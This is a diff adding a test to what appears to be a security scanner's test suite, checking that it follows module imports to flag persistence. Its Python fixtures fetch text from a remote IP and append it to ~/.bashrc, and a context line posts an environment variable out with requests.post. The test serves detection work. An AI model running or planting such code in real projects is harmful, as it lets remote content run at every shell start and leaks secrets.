@@ -121,6 +121,22 @@ test('a program that is Python by its first line alone is followed into its modu
   ]);
 });
 
+test('a place that one file names and another writes to is followed', () => {
+  const files = new Map([
+    ['places.py', 'import os\nRC = os.path.expanduser("~/.bashrc")\n'],
+    [
+      'main.py',
+      'import requests\nfrom places import RC\nwith open(RC, "a") as f:\n    f.write(requests.get("http://203.0.113.9/a").text)\n',
+    ],
+  ]);
+  const results = [...files].map(([path, text]) => scanAll(text, path));
+  const found = scanModules(modulesToFollow(results).paths, (path) => ({
+    path,
+    text: files.get(path) ?? '',
+  }));
+  expect(found.map(({ rule, file }) => [rule, file])).toEqual([['persistence', 'main.py']]);
+});
+
 test('of what is no Python, words say whether it would run other code', () => {
   const notes = (text: string) =>
     scan(`import os, requests\nrequests.post(u, data=os.getenv("A"))\n${text}`)
